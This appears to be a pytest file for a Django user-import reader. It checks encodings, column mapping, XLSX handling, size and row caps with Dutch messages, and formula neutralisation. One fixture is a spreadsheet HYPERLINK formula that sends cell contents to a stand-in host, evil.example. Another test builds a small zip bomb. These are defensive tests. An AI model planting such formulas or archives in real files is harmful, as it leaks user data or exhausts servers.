"""Reading an import file (orgadmin.spreadsheet): encodings, separators, column names in any order, XLSX, formulas
kept as text, and the caps on size and rows with their Dutch messages."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from orgadmin.spreadsheet import neutralise, read_users_file
from tests.orgadmin.import_files import HEADER, csv_bytes, person, xlsx_bytes


def cells(content: bytes) -> list[dict]:
    return [row for _number, row in read_users_file(content).rows]


@pytest.mark.parametrize("delimiter", [";", ","])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
def test_csv_in_utf8_and_windows_1252_with_either_separator(encoding, delimiter):
    rows = [person(1, voornaam="Ayşe" if encoding != "cp1252" else "Zoë", achternaam="Çelik")]
    (row,) = cells(csv_bytes(rows, delimiter=delimiter, encoding=encoding))
    assert row["first_name"] == ("Ayşe" if encoding != "cp1252" else "Zoë")
    assert row["last_name"] == "Çelik"
    assert row["email"] == "kees.import1@zorg-a.nl" and row["mobile"] == "06 12340001"


def test_columns_in_any_order_and_spelling_optional_columns_may_be_missing():
    content = b"E-mailadres;Achternaam;VOORNAAM;Voorletters\nk.b@zorg-a.nl;Bos;Kim;K.\n"
    (row,) = cells(content)
    assert row == {
        "initials": "K.", "name_prefix": "", "first_name": "Kim", "last_name": "Bos",
        "email": "k.b@zorg-a.nl", "mobile": "", "uzi_number": "",
    }  # fmt: skip


def test_row_numbers_are_the_files_and_empty_rows_are_skipped():
    content = csv_bytes([person(1), ["", "", "", "", "", "", ""], person(2)])
    assert [number for number, _row in read_users_file(content).rows] == [2, 4]


def test_xlsx_is_read_and_numbers_typed_as_numbers_become_text():
    row = person(1)
    row[HEADER.index("UZI-nummer")] = 123456782
    (read,) = cells(xlsx_bytes([row]))
    assert read["first_name"] == "Kees1" and read["uzi_number"] == "123456782"


def test_a_formula_in_a_cell_is_data_never_evaluated():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    (csv_row,) = cells(csv_bytes([person(1, voornaam="=1+2")]))
    assert csv_row["first_name"] == "=1+2"
    (xlsx_row,) = cells(xlsx_bytes([person(1, voornaam=formula)]))
    assert xlsx_row["first_name"] == formula  # the formula's text, not a value computed by anyone


@pytest.mark.parametrize("value", ["=1+2", "+31612345678", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_neutralise_makes_formula_starts_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Kees", "k@zorg-a.nl", "", 12, None, "a=b"])
def test_neutralise_leaves_other_values_alone(value):
    assert neutralise(value) == value


def refusal(content: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        read_users_file(content)
    return " ".join(caught.value.messages)


def test_size_cap(settings):
    settings.PORTERO_USER_IMPORT_MAX_BYTES = 1000
    assert refusal(csv_bytes([person(i) for i in range(30)])) == "Het bestand is te groot: hoogstens 1.000 bytes."


def test_row_cap(settings):
    settings.PORTERO_USER_IMPORT_MAX_ROWS = 3
    assert "te veel rijen: hoogstens 3 gebruikers per import" in refusal(csv_bytes([person(i) for i in range(4)]))
    assert len(cells(csv_bytes([person(i) for i in range(3)]))) == 3


def test_an_xlsx_that_unpacks_far_beyond_the_cap_is_refused_before_it_is_parsed(settings):
    settings.PORTERO_USER_IMPORT_MAX_BYTES = 100_000
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "0" * 2_000_000)
    assert len(out.getvalue()) < 100_000
    assert refusal(out.getvalue()).startswith("Het bestand is te groot")


def test_unknown_and_missing_columns_are_named():
    assert "Onbekende kolom: geboortedatum" in refusal(b"voornaam;achternaam;geboortedatum\nA;B;C\n")
    message = refusal(b"voornaam;achternaam\nA;B\n")
    assert "deze ontbreken: voorletters, e-mail" in message


def test_a_column_twice_is_refused():
    assert "twee keer" in refusal(b"voorletters;voornaam;achternaam;e-mail;E-mailadres\nA;B;C;d@e.nl;d@e.nl\n")


def test_unreadable_files():
    assert refusal(b"") == "Het bestand is leeg."
    assert "alleen de kolomnamen" in refusal(csv_bytes([]))
    assert "niet te lezen" in refusal(b"PK\x03\x04 not a zip at all")
